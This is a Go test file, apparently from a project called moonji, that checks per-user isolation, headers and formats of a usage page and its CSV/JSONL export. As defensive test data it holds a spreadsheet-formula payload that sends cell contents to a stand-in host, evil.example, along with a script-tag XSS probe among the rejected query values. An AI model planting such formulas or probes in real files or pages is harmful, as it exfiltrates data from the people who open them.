package web_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"moonji/internal/usageexport"
	"moonji/models"
)

// twoPeople are two signed-in people, each with a key, who have each made
// requests: their inference ids, rows final.
type twoPeople struct {
	pia, bob       *http.Client
	piaKey, bobKey string
	piaIDs, bobIDs []string
}

// formula is a model name a spreadsheet would run as a formula.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`

func usageOfTwo(t *testing.T, e *testEnv) twoPeople {
	t.Helper()
	p := twoPeople{pia: e.signedIn("pia@example.com", false), bob: e.signedIn("bob@example.com", false)}
	p.piaKey, p.bobKey = e.newKey("pia@example.com", 0), e.newKey("bob@example.com", 0)
	for range 2 {
		p.piaIDs = append(p.piaIDs, e.sendAs(p.piaKey, chatBody, http.StatusOK))
	}
	b, _ := json.Marshal(map[string]any{"model": formula, "messages": []map[string]string{{"role": "user", "content": "x"}}})
	p.piaIDs = append(p.piaIDs, e.sendAs(p.piaKey, string(b), http.StatusNotFound))
	for range 3 {
		p.bobIDs = append(p.bobIDs, e.sendAs(p.bobKey, chatBody, http.StatusOK))
	}
	p.bobIDs = append(p.bobIDs, e.sendAs(p.bobKey, `{"model":"bobs-secret-model","messages":[{"role":"user","content":"x"}]}`, http.StatusNotFound))
	for _, id := range append(append([]string{}, p.piaIDs...), p.bobIDs...) {
		e.final(id)
	}
	return p
}

// /usage shows the person's own requests and keys, nobody else's.
func TestUsagePageOwnRowsOnly(t *testing.T) {
	e := startEnv(t, "sqlite://"+t.TempDir()+"/moonji.db")
	p := usageOfTwo(t, e)

	body := e.adminPage(p.pia, "/usage")
	totals := tableOf(t, body, "model-totals")
	if got := cellValue(t, rowOf(totals, "data-model", "m1"), "data-outcome", "success"); got != 2 {
		t.Errorf("pia's m1 successes = %d, want 2 (bob's 3 are not hers)", got)
	}
	if got := cellValue(t, rowOf(totals, "data-model", models.UnknownModel), "data-outcome", "rejected"); got != 1 {
		t.Errorf("pia's rejected = %d, want 1", got)
	}
	if got := cellValue(t, rowOf(totals, "data-total", "true"), "data-field", "requests"); got != int64(len(p.piaIDs)) {
		t.Errorf("pia's total = %d, want %d", got, len(p.piaIDs))
	}
	for _, foreign := range []string{"bobs-secret-model", "bob@example.com", "owner@example.com", keyOf(t, e, "bob@example.com").Prefix} {
		if strings.Contains(body, foreign) {
			t.Errorf("pia's usage page shows %q", foreign)
		}
	}
	// Her key, with her requests (all three came with it).
	piaKey := keyOf(t, e, "pia@example.com")
	row := rowOf(tableOf(t, body, "key-totals"), "data-key", strconv.FormatUint(uint64(piaKey.ID), 10))
	if got := cellValue(t, row, "data-field", "requests"); got != int64(len(p.piaIDs)) || !strings.Contains(row, piaKey.Prefix) {
		t.Errorf("pia's key row: %d requests, want %d:\n%s", got, len(p.piaIDs), row)
	}
	// 30 days by default; 24 hours on request; anything else is the default.
	for q, want := range map[string]int{"": 30, "?range=24h": 24, "?range=30d": 30, "?range=%3Cb%3E": 30, "?range=1y": 30} {
		body := e.adminPage(p.pia, "/usage"+q)
		if n := strings.Count(tableOf(t, body, "requests-table"), "<tr data-bucket="); n != want {
			t.Errorf("/usage%s: %d buckets, want %d", q, n, want)
		}
	}
	// Bob sees his, not hers.
	body = e.adminPage(p.bob, "/usage")
	if got := cellValue(t, rowOf(tableOf(t, body, "model-totals"), "data-model", "m1"), "data-outcome", "success"); got != 3 {
		t.Errorf("bob's m1 successes = %d, want 3", got)
	}
	if strings.Contains(body, "pia@example.com") || strings.Contains(body, "HYPERLINK") {
		t.Error("bob's usage page shows pia's requests")
	}
	// Signed out: the sign-in, no data.
	if resp, _ := e.fetch(noRedirects(browser(t)), http.MethodGet, "/usage", nil, nil); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("signed out /usage: %d, want a redirect to the sign-in", resp.StatusCode)
	}
}

// The export is the person's own rows, in the CLI's format, as a download;
// a cell a spreadsheet would run is defused in CSV and kept in JSONL.
func TestUsageExport(t *testing.T) {
	e := startEnv(t, "sqlite://"+t.TempDir()+"/moonji.db")
	p := usageOfTwo(t, e)
	own := map[string]bool{}
	for _, id := range p.piaIDs {
		own[id] = true
	}

	resp, body := e.fetch(noRedirects(p.pia), http.MethodGet, "/usage/export?format=csv&since=24h", nil, nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("csv export: %d %s", resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	cd := resp.Header.Get("Content-Disposition")
	if !strings.HasPrefix(cd, `attachment; filename="moonji-usage-`) || !strings.HasSuffix(cd, `.csv"`) || strings.ContainsAny(cd[len(`attachment; filename="`):len(cd)-1], `"/\;`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	if resp.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("Cache-Control %q", resp.Header.Get("Cache-Control"))
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(recs[0], ",") != strings.Join(usageexport.Fields, ",") {
		t.Fatalf("header %q", recs[0])
	}
	col := map[string]int{}
	for i, f := range recs[0] {
		col[f] = i
	}
	if len(recs)-1 != len(p.piaIDs) {
		t.Fatalf("%d rows, want pia's %d:\n%s", len(recs)-1, len(p.piaIDs), body)
	}
	for _, r := range recs[1:] {
		if !own[r[col["inference_id"]]] || r[col["user"]] != "pia@example.com" {
			t.Errorf("a row not pia's: %q", r)
		}
		if r[col["outcome"]] == "rejected" && r[col["model"]] != "'"+formula {
			t.Errorf("the formula cell is %q, want it quoted", r[col["model"]])
		}
	}
	// The same row, field for field, as the CLI's format writes it.
	want, err := models.UsageByID(context.Background(), e.DB, recs[1][col["inference_id"]])
	if err != nil {
		t.Fatal(err)
	}
	if got, exp := strings.Join(recs[1], ","), strings.Join(usageexport.FromUsage(want, "USD").CSV(), ","); got != exp {
		t.Errorf("row %s\n got %s\nwant %s", want.InferenceID, got, exp)
	}

	resp, body = e.fetch(noRedirects(p.pia), http.MethodGet, "/usage/export?format=jsonl", nil, nil)
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/x-ndjson") ||
		!strings.HasSuffix(resp.Header.Get("Content-Disposition"), `.jsonl"`) {
		t.Fatalf("jsonl export: %d %v", resp.StatusCode, resp.Header)
	}
	lines := strings.Split(strings.TrimSpace(body), "\n")
	if len(lines) != len(p.piaIDs) {
		t.Fatalf("%d lines, want %d", len(lines), len(p.piaIDs))
	}
	sawFormula := false
	for _, l := range lines {
		var rec map[string]any
		if err := json.Unmarshal([]byte(l), &rec); err != nil {
			t.Fatal(err)
		}
		if !own[rec["inference_id"].(string)] || rec["user"] != "pia@example.com" || len(rec) != len(usageexport.Fields) {
			t.Errorf("not pia's, or not the CLI's fields: %v", rec)
		}
		sawFormula = sawFormula || rec["model"] == formula
	}
	if !sawFormula {
		t.Error("JSONL does not keep the model name as it was")
	}

	// Bob's export holds his rows only.
	_, body = e.fetch(noRedirects(p.bob), http.MethodGet, "/usage/export?format=jsonl&since=7d", nil, nil)
	for _, id := range p.piaIDs {
		if strings.Contains(body, id) {
			t.Errorf("bob's export holds pia's %s", id)
		}
	}
	if n := strings.Count(strings.TrimSpace(body), "\n") + 1; n != len(p.bobIDs) {
		t.Errorf("bob's export: %d rows, want %d", n, len(p.bobIDs))
	}
	// A since after every row: the header alone.
	_, body = e.fetch(noRedirects(p.pia), http.MethodGet, "/usage/export?format=csv&since="+url.QueryEscape(time.Now().Add(time.Hour).UTC().Format(time.RFC3339)), nil, nil)
	if strings.TrimSpace(body) != strings.Join(usageexport.Fields, ",") {
		t.Errorf("a since in the future: %q", body)
	}
}

// Bad parameters are refused with a sentence saying what to change; nothing
// is echoed as HTML; signed out gets the sign-in, never rows.
func TestUsageExportRefusals(t *testing.T) {
	e := startEnv(t, "sqlite://"+t.TempDir()+"/moonji.db")
	pia := e.signedIn("pia@example.com", false)
	for _, q := range []string{
		"", "format=xml", "format=CSV", "format=csv%00", "format=csv&since=yesterday", "format=jsonl&since=99999999999d",
		"format=jsonl&since=9223372036854775807h", "format=csv&since=-7d", "format=csv&since=0d", "format=csv&since=367d",
		"format=csv&since=1900-01-01", "format=csv&since=0001-01-01T00:00:00Z", "format=csv&since=%3Cscript%3Ealert(1)%3C/script%3E",
		"format=csv&since=" + strings.Repeat("9", 500) + "d",
	} {
		resp, body := e.fetch(noRedirects(pia), http.MethodGet, "/usage/export?"+q, nil, nil)
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%.60s: %d, want 400", q, resp.StatusCode)
			continue
		}
		if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/plain") || resp.Header.Get("Content-Disposition") != "" {
			t.Errorf("%.60s: answered %v", q, resp.Header)
		}
		if len(body) < 10 || len(body) > 300 {
			t.Errorf("%.60s: message %q", q, body)
		}
	}
	if resp, _ := e.fetch(noRedirects(pia), http.MethodGet, "/usage/export?format=csv&since=366d", nil, nil); resp.StatusCode != http.StatusOK {
		t.Errorf("a year back: %d", resp.StatusCode)
	}
	resp, body := e.fetch(noRedirects(browser(t)), http.MethodGet, "/usage/export?format=csv", nil, map[string]string{"Authorization": "Bearer " + e.Key})
	if resp.StatusCode != http.StatusUnauthorized || strings.Contains(body, "inference_id") {
		t.Errorf("signed out (with a key): %d %q, want 401 (a key opens no page)", resp.StatusCode, body)
	}
}
